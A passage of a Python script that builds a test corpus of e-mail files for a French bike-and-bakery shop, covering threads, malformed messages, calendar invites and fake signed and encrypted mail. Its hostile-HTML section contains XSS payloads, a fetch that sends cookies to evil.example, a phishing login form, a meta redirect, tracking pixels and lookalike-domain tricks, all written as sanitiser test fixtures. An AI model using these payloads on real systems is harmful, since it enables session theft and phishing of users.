            "45 € per day for all four",
            True,
        ),
        (
            emma,
            "RE: Bike rental for a family of four",
            "Great, please book them for May 6th to 8th. We'll pick them up at 10am.\n\nEmma\n",
            "please book them for May 6th to 8th",
            False,
        ),
    ]
    for n, (who, subj, text, needle, with_refs) in enumerate(chain_c):
        simple(
            f"location-{n + 1}.eml",
            "reply-in-reply-to-only" if not with_refs else "reply-chain",
            text + (SIGNATURE if who == ME else ""),
            charset="utf-8" if who == ME else "us-ascii",
            cte="8bit" if who == ME else "7bit",
            frm=who,
            to=US if who != ME else addr(*emma),
            subj=subj,
            when=date(2024, 4, 22 + n, 10, 0, PARIS_SUMMER),
            mid=ids_c[n],
            irt=ids_c[n - 1] if n else None,
            refs=ids_c[:n] if with_refs else [],
            thread="rental-emma",
            host="mail-db8eur05.outbound.protection.outlook.com",
            extra=OUT_EXTRA if who == ME else [],
            subject_contains="Bike rental for a family of four",
            text_contains=needle,
            notes="" if with_refs else "In-Reply-To only, no References.",
        )

    # D: linked only by the subject ("Re:" / "RE :"), no reference headers at all.
    sophie = ("Sophie Martin", "sophie.martin@example.fr")
    chain_d = [
        (
            sophie,
            "Horaires d'ouverture le dimanche ?",
            "Bonjour,\n\nÊtes-vous ouverts le dimanche matin ? Et l'atelier vélo aussi ?\n",
            "Êtes-vous ouverts le dimanche matin",
        ),
        (
            ME,
            "Re: Horaires d'ouverture le dimanche ?",
            "Bonjour,\n\nLa boulangerie ouvre le dimanche de 7 h à 13 h ; l'atelier est fermé.\n",
            "La boulangerie ouvre le dimanche de 7 h à 13 h",
        ),
        (
            sophie,
            "RE : Horaires d'ouverture le dimanche ?",
            "Merci, je passerai dimanche pour le pain !\n",
            "je passerai dimanche pour le pain",
        ),
    ]
    for n, (who, subj, text, needle) in enumerate(chain_d):
        simple(
            f"horaires-{n + 1}.eml",
            "reply-subject-only",
            text,
            frm=who,
            to=US if who != ME else addr(*sophie),
            subj=subj,
            when=date(2024, 4, 25, 9 + 2 * n, 0, PARIS_SUMMER),
            mid=f"horaires.{n + 1}.20240425@{'velopain.example' if who == ME else 'example.fr'}",
            thread="horaires-sophie",
            extra=OUT_EXTRA if who == ME else [],
            subject_contains="Horaires d'ouverture le dimanche",
            text_contains=needle,
            notes="No In-Reply-To/References: only the subject links it."
            + (" French Outlook prefix 'RE :'." if n == 2 else ""),
        )

    # E: a German customer and our English reply.
    ids_e = ["jm.akku.20240426@example.de", "d4e5f6a7.akku.20240426@velopain.example"]
    juergen = ("Jürgen Müller", "juergen.mueller@example.de")
    simple(
        "batterie-1.eml",
        "utf8",
        "Hallo,\n\nich bin Tourist aus München. Der Akku meines E-Bikes lädt nicht mehr – "
        "können Sie ihn prüfen? Größe: 500 Wh.\n\nViele Grüße\nJürgen Müller\n",
        cte="quoted-printable",
        frm=juergen,
        to=US,
        subj="E-Bike Akku lädt nicht",
        when=date(2024, 4, 26, 15, 30, PARIS_SUMMER),
        mid=ids_e[0],
        thread="akku-juergen",
        extra=[("Content-Language", "de-DE")],
        text_contains="Der Akku meines E-Bikes lädt nicht mehr",
    )
    simple(
        "batterie-2.eml",
        "outbound",
        "Hello Mr Müller,\n\nBring it by this afternoon: we can test the battery and the "
        "charger in 20 minutes.\n\nMarc" + SIGNATURE,
        flowed=True,
        frm=ME,
        to=addr(*juergen),
        subj="Re: E-Bike Akku lädt nicht",
        when=date(2024, 4, 26, 15, 52, PARIS_SUMMER),
        mid=ids_e[1],
        irt=ids_e[0],
        refs=[ids_e[0]],
        thread="akku-juergen",
        extra=OUT_EXTRA,
        text_contains="we can test the battery and the charger",
    )
    simple(
        "outbound-reply-orphan.eml",
        "outbound",
        "Bonjour,\n\nVotre commande de 6 pains au chocolat est prête, à tout à l'heure !\n\n"
        "Marc" + SIGNATURE,
        frm=ME,
        to="nicolas.perret@example.fr",
        subj="Re: Commande pains au chocolat",
        when=date(2024, 4, 27, 7, 2, PARIS_SUMMER),
        mid="e5f6a7b8.painchoc.20240427@velopain.example",
        irt="np.painchoc.20240426@example.fr",
        refs=["np.painchoc.20240426@example.fr"],
        extra=OUT_EXTRA,
        text_contains="Votre commande de 6 pains au chocolat est prête",
        notes="Our reply; the customer's message it answers is not in the corpus.",
    )


# --- 6. hostile HTML ------------------------------------------------------------------------------


def hostile() -> None:
    def html_mail(
        file: str,
        html: str,
        subj: str,
        needle: str,
        notes: str,
        *,
        with_text: bool = False,
        frm: tuple[str, str] = ("Service Client", "service@promo-velos.example"),
        outbound: bool | None = None,
    ) -> None:
        if with_text:
            bnd = boundary("alt")
            content = [("Content-Type", f'multipart/alternative; boundary="{bnd}"')]
            body = multipart(
                bnd,
                [
                    text_part(needle + "\n", "utf-8", "quoted-printable"),
                    text_part(html, "utf-8", "quoted-printable", "html"),
                ],
            )
        else:
            content = [
                ("Content-Type", "text/html; charset=utf-8"),
                ("Content-Transfer-Encoding", "quoted-printable"),
            ]
            body = qp(html)
        mail(
            file,
            "hostile-html",
            frm=frm,
            to=US,
            subj=subj,
            when=date(2024, 4, 28, 3, 14, PARIS_SUMMER),
            mid=f"{file.removesuffix('.eml')}.20240428@{frm[1].split('@')[1]}",
            content=content,
            body=body,
            hostile=True,
            outbound=outbound,
            text_contains=needle,
            notes=notes,
        )

    html_mail(
        "hostile-script.eml",
        """<html><head><script>alert(document.cookie)</script>
<script src="https://evil.example/x.js"></script></head>
<body onload="fetch('https://evil.example/steal?c='+document.cookie)">
<p>Votre colis de chambres à air est bloqué en douane.</p>
<iframe src="https://evil.example/frame" width="1" height="1"></iframe>
<img src="x" onerror="alert('xss')">
<p><a href="javascript:alert('clic')">Cliquez ici pour débloquer</a>
<a href="JaVaScRiPt:void(fetch('//evil.example'))">ou ici</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ou là</a></p>
<form action="https://evil.example/login" method="post">
<input name="iban" placeholder="Votre IBAN"><input type="password" name="pw">
<button type="submit">Valider</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<svg onload="alert(1)"><use href="https://evil.example/s.svg#a"/></svg>
<div style="background:url(javascript:alert(1))">styled</div>
</body></html>
""",
        "Votre colis est bloqué",
        "Votre colis de chambres à air est bloqué en douane.",
        "script, iframe, form, onerror/onload, javascript:/data: links, object, embed, svg.",
    )
    html_mail(
        "hostile-tracking.eml",
        """<html><head><style>
body { background-image: url('https://track.example/bg.gif?u=velopain'); }
@import url("https://track.example/style.css");
.promo { behavior: url(https://track.example/x.htc); }
</style>
<link rel="stylesheet" href="https://track.example/remote.css"></head>
<body>
<img src="https://cdn.promo-velos.example/banner.jpg" alt="Promo">
<p class="promo">-30 % sur les antivols en U ce week-end seulement.</p>
<img src="https://track.example/open.gif?id=8841&amp;u=contact%40velopain.example" width="1"
height="1" style="display:none" alt="">
<img srcset="https://track.example/a.gif 1x, https://track.example/b.gif 2x">
<table background="https://track.example/table.gif"><tr><td>Offre</td></tr></table>
<video poster="https://track.example/poster.jpg"></video>
<p style="background: url(https://track.example/inline.gif)">Conditions en magasin.</p>
</body></html>
""",
        "-30 % sur les antivols",
        "-30 % sur les antivols en U ce week-end seulement.",
        "Remote images, 1x1 tracking pixel, srcset, CSS url()/@import/behavior, "
        "table background, video poster, <link> stylesheet.",
        with_text=True,
    )
    html_mail(
        "hostile-base-meta.eml",
        """<html><head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0; url=https://evil.example/phish">
<meta http-equiv="Set-Cookie" content="session=stolen">
</head><body>
<p>Mise à jour de votre compte fournisseur nécessaire.</p>
<p><a href="compte/login">Se connecter</a> (relative link resolved against the base)</p>
<img src="logo.png">
</body></html>
""",
        "Mise à jour de votre compte fournisseur",
        "Mise à jour de votre compte fournisseur nécessaire.",
        "<base href> changes what relative links point to; <meta refresh>; Set-Cookie meta.",
    )
    html_mail(
        "hostile-phishing.eml",
        """<html><body>
<p>Cher client, votre abonnement de livraison de pain arrive à expiration.</p>
<p><a href="https://evil.example/velopain-login">https://www.velopain.example/mon-compte</a></p>
<p style="font-size:0;color:#fff">texte caché pour les filtres antispam</p>
<p>&#x202E;fdp.exe</p>
<a href="https://xn--vlopain-dya.example/">velopain.example</a>
</body></html>
""",
        "Votre abonnement arrive à expiration",
        "votre abonnement de livraison de pain arrive à expiration",
        "Link text shows one URL, href goes elsewhere; hidden text; RLO character; IDN lookalike.",
        frm=("Vélo & Pain", "contact@velopain-secure.example"),
        outbound=False,
    )


# --- 7. malformed ---------------------------------------------------------------------------------


def malformed() -> None:
    lines = []
    total = 0
    n = 0
    rng = random.Random(2024)
    items = ["baguette", "croissant", "pain au chocolat", "chambre à air", "rustine", "brioche"]
    while total < 1_500_000:
        n += 1
        qty = rng.randrange(1, 9)
        item = items[rng.randrange(len(items))]
        line = f"Commande n°{n:05d} — {qty} × {item} — {qty * 1.15:.2f} € — payée par carte\r\n"
        lines.append(line)
        total += len(line.encode())
    huge_body = (
        "Bonjour,\r\n\r\nVoici l'export complet des commandes de l'année, comme demandé.\r\n\r\n"
        + "".join(lines)
        + "\r\nFIN DE L'EXPORT\r\n"
    )
    mail(
        "huge.eml",
        "huge",
        frm=("Logiciel de caisse", "caisse@velopain.example"),
        to=US,
        subj="Export des commandes 2023",
        when=date(2024, 1, 2, 2, 0),
        mid="export.2023.20240102020000@velopain.example",
        content=[
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=huge_body.encode(),
        host="caisse.velopain.example",
        outbound=False,
        text_contains="Voici l'export complet des commandes de l'année",
        notes=f"{len(huge_body.encode()) // 1024} KiB text body ({n} lines); the last line is "
        "'FIN DE L'EXPORT'.",
    )
    mail(
        "broken-boundary-mismatch.eml",
        "broken-boundary",
        frm=("Kevin Morel", "kevin.morel@example.fr"),
        to=SUPPORT,
        subj="Photo du cadre fissuré",
        when=date(2024, 4, 29, 18, 0, PARIS_SUMMER),
        mid="bb.mismatch.20240429@example.fr",
        content=[("Content-Type", 'multipart/mixed; boundary="----=_Part_123_456"')],
        body=enc(
            "------=_Part_999_000\n"
            "Content-Type: text/plain; charset=utf-8\n"
            "Content-Transfer-Encoding: 8bit\n\n"
            "Voici la photo du cadre fissuré, c'est grave docteur ?\n\n"
            "------=_Part_999_000\n"
            "Content-Type: image/png\nContent-Transfer-Encoding: base64\n\n"
        )
        + b64(png(8, 8, seed=2))
        + b"------=_Part_999_000--\r\n",
        text_contains="Voici la photo du cadre fissuré",
        notes="The declared boundary never occurs; the parts use another one.",
    )
    bnd = boundary("mix")
    mail(
        "broken-boundary-unterminated.eml",
        "broken-boundary",
        frm=("Inès Bertrand", "ines.bertrand@example.org"),
        to=US,
        subj="Question sur les horaires de l'atelier",
        when=date(2024, 4, 29, 19, 0, PARIS_SUMMER),
        mid="bb.unterminated.20240429@example.org",
        content=[("Content-Type", f'multipart/alternative; boundary="{bnd}"')],
        body=(
            b"--"
            + bnd.encode()
            + b"\r\n"
            + text_part("L'atelier est-il ouvert le samedi après-midi ?\n", "utf-8", "8bit")
            + b"\r\n--"
            + bnd.encode()
            + b"\r\n"
            + text_part("<p>L'atelier est-il ouvert le samedi après-midi ?</p>\n", sub="html")
        ),
        text_contains="L'atelier est-il ouvert le samedi après-midi",
        notes="No closing boundary (message ends after the last part).",
    )
    bnd = boundary("mix")
    truncated = b64(pdf("Bon de commande") * 3)
    mail(
        "truncated-base64.eml",
        "truncated-base64",
        frm=("Damien Leroy", "damien.leroy@example.com"),
        to=US,
        subj="Bon de commande signé",
        when=date(2024, 4, 30, 10, 0, PARIS_SUMMER),
        mid="trunc.b64.20240430@example.com",
        content=[("Content-Type", f'multipart/mixed; boundary="{bnd}"')],
        body=(
            b"--"
            + bnd.encode()
            + b"\r\n"
            + text_part("Bonjour,\n\nCi-joint le bon de commande signé pour les 20 baguettes.\n")
            + b"\r\n--"
            + bnd.encode()
            + b"\r\n"
            + part(
                [
                    ("Content-Type", 'application/pdf; name="bon.pdf"'),
                    ("Content-Disposition", 'attachment; filename="bon.pdf"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                truncated[: len(truncated) // 2 - 7],
            )
        ),
        text_contains="Ci-joint le bon de commande signé pour les 20 baguettes",
        notes="The PDF attachment's base64 is cut in the middle of a line (bad length, no "
        "padding) and the message ends there, without closing boundary.",
    )
    e = simple(
        "header-without-colon.eml",
        "header-without-colon",
        "Bonjour,\n\nMon vélo fait un bruit de claquement à chaque tour de roue.\n",
        frm=("Romain Fabre", "romain.fabre@example.fr"),
        to=US,
        subj="Bruit de claquement",
        when=date(2024, 4, 30, 11, 0, PARIS_SUMMER),
        mid="nocolon.20240430@example.fr",
        text_contains="Mon vélo fait un bruit de claquement",
        notes="The last header line is 'X-Mailer Outlook Express 6' (no colon): the stdlib "
        "ends the header block there and the line becomes the start of the body.",
    )
    e.raw = e.raw.replace(
        b"Content-Transfer-Encoding: 8bit\r\n\r\n",
        b"Content-Transfer-Encoding: 8bit\r\nX-Mailer Outlook Express 6\r\n\r\n",
        1,
    )
    e = simple(
        "nul-bytes.eml",
        "nul-bytes",
        "Bonjour,\n\nMerci@@ pour le pain@@ d'épices, il était parfait.\n\nGisèle\n",
        frm=("Gisèle André", "gisele.andre@example.fr"),
        to=US,
        subj="Pain d'épices",
        when=date(2024, 4, 30, 12, 0, PARIS_SUMMER),
        mid="nul.20240430@example.fr",
        text_contains="d'épices, il était parfait",
        notes="NUL bytes in the body (after 'Merci' and 'pain') and one in the X-Client "
        "header. Dovecot stores each NUL as 0x80.",
    )
    e.raw = e.raw.replace(b"@@", b"\x00").replace(
        b"MIME-Version", b"X-Client: broken\x00mailer\r\nMIME-Version", 1
    )
    garbage = random.Random(666).randbytes(4096)
    ENTRIES.append(
        Entry(
            file="garbage.eml",
            kind="garbage",
            raw=garbage,
            thread="garbage",
            sender=None,
            message_id=None,
            notes="4 KiB of random bytes: not an e-mail at all (its lone CR/LF become CRLF "
            "through an imaplib APPEND).",
        )
    )


# --- 8. calendar, signed, encrypted ---------------------------------------------------------------


def special() -> None:
    ics = """BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20240515T160000Z
DTEND:20240515T180000Z
DTSTAMP:20240502T090000Z
ORGANIZER;CN=Mairie de Rennes:mailto:evenements@mairie.example
UID:5k2j3h4g5f6d7s8a9@google.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=contact@velopain.example:mailto:contact@velopain.example
SUMMARY:Atelier réparation vélo – Fête du quartier
DESCRIPTION:Animation de l'atelier réparation sur le stand de la mairie.
LOCATION:Place de la Mairie\\, Rennes
SEQUENCE:0
STATUS:CONFIRMED
END:VEVENT
END:VCALENDAR
"""
    b_mix, b_alt = boundary("mix"), boundary("alt")
    cal = part(
        [
            ("Content-Type", 'text/calendar; charset="UTF-8"; method=REQUEST'),
            ("Content-Transfer-Encoding", "quoted-printable"),
        ],
        qp(ics),
    )
    mail(
        "calendar-invite.eml",
        "calendar",
        frm=("Mairie de Rennes", "evenements@mairie.example"),
        to=US,
        subj="Invitation: Atelier réparation vélo – Fête du quartier @ mer. 15 mai 2024",
        when=date(2024, 5, 2, 11, 0, PARIS_SUMMER),
        mid="000000000000a1b2c3061762d0e1@google.com",
        content=[("Content-Type", f'multipart/mixed; boundary="{b_mix}"')],
        body=multipart(
            b_mix,
            [
                part(
                    [("Content-Type", f'multipart/alternative; boundary="{b_alt}"')],
                    multipart(
                        b_alt,
                        [
                            text_part(
                                "Vous avez été invité à l'événement suivant.\n\n"
                                "Atelier réparation vélo – Fête du quartier\n"
                                "Quand : mer. 15 mai 2024 18:00 – 20:00 (heure d'été)\n"
                                "Où : Place de la Mairie, Rennes\n",
                                "UTF-8",
                                "quoted-printable",
                            ),
                            text_part(
                                "<p>Vous avez été invité à l'événement suivant.</p>"
                                "<p><b>Atelier réparation vélo – Fête du quartier</b></p>\n",
                                "UTF-8",
                                "quoted-printable",
                                "html",
                            ),
                            cal,
                        ],
                    ),
                ),
                part(
                    [
                        ("Content-Type", 'application/ics; name="invite.ics"'),
                        ("Content-Disposition", 'attachment; filename="invite.ics"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(crlf(ics).encode()),
                ),
            ],
        ),
        host="mail-calendar.google.com",
        subject_contains="Atelier réparation vélo",
        text_contains="Vous avez été invité à l'événement suivant.",
        notes="Google Calendar style: text/calendar METHOD:REQUEST inside the alternative "
        "plus an application/ics attachment.",
    )
    signed_text = part(
        [
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "quoted-printable"),
        ],
        qp(
            "Bonjour,\n\nJe confirme la commande de 12 vélos de location pour le 3 mai.\n\n"
            "Pierre-Yves Le Du\n"
        ),
    )
    bnd = boundary("sig")
    mail(
        "signed-pgp.eml",
        "signed",
        frm=("Pierre-Yves Le Du", "py.ledu@example.org"),
        to=US,
        subj="Confirmation commande vélos (signé)",
        when=date(2024, 5, 2, 14, 0, PARIS_SUMMER),
        mid="pgp.signed.20240502@example.org",
        content=[
            (
                "Content-Type",
                f'multipart/signed; micalg=pgp-sha256;\r\n protocol="application/pgp-signature"; '
                f'boundary="{bnd}"',
            )
        ],
        body=multipart(
            bnd,
            [
                signed_text,
                part(
                    [
                        ("Content-Type", 'application/pgp-signature; name="signature.asc"'),
                        ("Content-Description", "OpenPGP digital signature"),
                        ("Content-Disposition", 'attachment; filename="signature.asc"'),
                    ],
                    enc(
                        "-----BEGIN PGP SIGNATURE-----\n\n"
                        "iHUEARYIAB0WIQRmYWtlIHNpZ25hdHVyZSBmb3IgdGVzdHMFAmYzAAAACgkQZmFr\n"
                        "ZSBzaWduYXR1cmUgbm90IHJlYWwgYXQgYWxsIGp1c3QgYnl0ZXMgZm9yIHRlc3Rz\n"
                        "=AbCd\n-----END PGP SIGNATURE-----\n"
                    ),
                ),
            ],
            preamble=b"This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\r\n",
        ),
        extra=[("User-Agent", "Mozilla/5.0 Thunderbird/115.8.0")],
        subject_contains="Confirmation commande vélos",
        text_contains="Je confirme la commande de 12 vélos de location pour le 3 mai",
        notes="PGP/MIME signature part is fake (does not verify).",
    )
    bnd = boundary("sig")
    mail(
        "signed-smime.eml",
        "signed",
        frm=("Banque Coopérative", "alertes@banque-coop.example"),
        to=US,
        subj="Votre relevé de compte professionnel est disponible",
        when=date(2024, 5, 3, 6, 0, PARIS_SUMMER),
        mid="smime.releve.20240503@banque-coop.example",
        content=[
            (
                "Content-Type",
                f'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
                f'boundary="{bnd}"',
            )
        ],
        body=multipart(
            bnd,
            [
                text_part(
                    "Madame, Monsieur,\n\nVotre relevé de compte professionnel d'avril est "
                    "disponible dans votre espace client.\n",
                    "iso-8859-1",
                    "quoted-printable",
                ),
                part(
                    [
                        ("Content-Type", 'application/pkcs7-signature; name="smime.p7s"'),
                        ("Content-Transfer-Encoding", "base64"),
                        ("Content-Disposition", 'attachment; filename="smime.p7s"'),
                    ],
                    b64(random.Random(7).randbytes(900)),
                ),
            ],
        ),
        text_contains="Votre relevé de compte professionnel d'avril est disponible",
        notes="S/MIME detached signature, fake bytes.",
    )
    bnd = boundary("enc")
    mail(
        "encrypted-pgp.eml",
        "encrypted",
        frm=("Pierre-Yves Le Du", "py.ledu@example.org"),
        to=US,
        subj="...",
        when=date(2024, 5, 3, 9, 0, PARIS_SUMMER),
        mid="pgp.encrypted.20240503@example.org",
        content=[
            (
                "Content-Type",
                f'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="{bnd}"',
            )
        ],
        body=multipart(
            bnd,
            [
                part(
                    [
                        ("Content-Type", "application/pgp-encrypted"),
                        ("Content-Description", "PGP/MIME version identification"),
                    ],
                    b"Version: 1\r\n",
                ),
                part(
                    [
                        ("Content-Type", 'application/octet-stream; name="encrypted.asc"'),
                        ("Content-Description", "OpenPGP encrypted message"),
                        ("Content-Disposition", 'inline; filename="encrypted.asc"'),
                    ],
                    enc(
                        "-----BEGIN PGP MESSAGE-----\n\n"
                        + base64.encodebytes(random.Random(9).randbytes(300)).decode()
                        + "=XyZw\n-----END PGP MESSAGE-----\n"
                    ),
                ),
            ],
        ),
        subject_contains="...",
        text_contains=None,
        notes="PGP/MIME encrypted (fake ciphertext): no readable text; the subject is hidden "
        "('...', as Thunderbird does).",
    )


# --- main -----------------------------------------------------------------------------------------


def main() -> None:
    charsets()
    structures()
    forwards()
    autoreplies_and_bounces()
    lists()
    headers()
    conversations()
    hostile()
    malformed()
    special()
    names = [e.file for e in ENTRIES]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise SystemExit(f"duplicate file names: {sorted(duplicates)}")
    for old in HERE.glob("*.eml"):
        if old.name not in names:
            old.unlink()
    for entry in ENTRIES:
        (HERE / entry.file).write_bytes(entry.raw)
    manifest = [entry.manifest() for entry in sorted(ENTRIES, key=lambda e: e.file)]
    (HERE / "manifest.json").write_text(
        json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8"
    )
    print(f"{len(ENTRIES)} messages written to {HERE}")


if __name__ == "__main__":
    main()
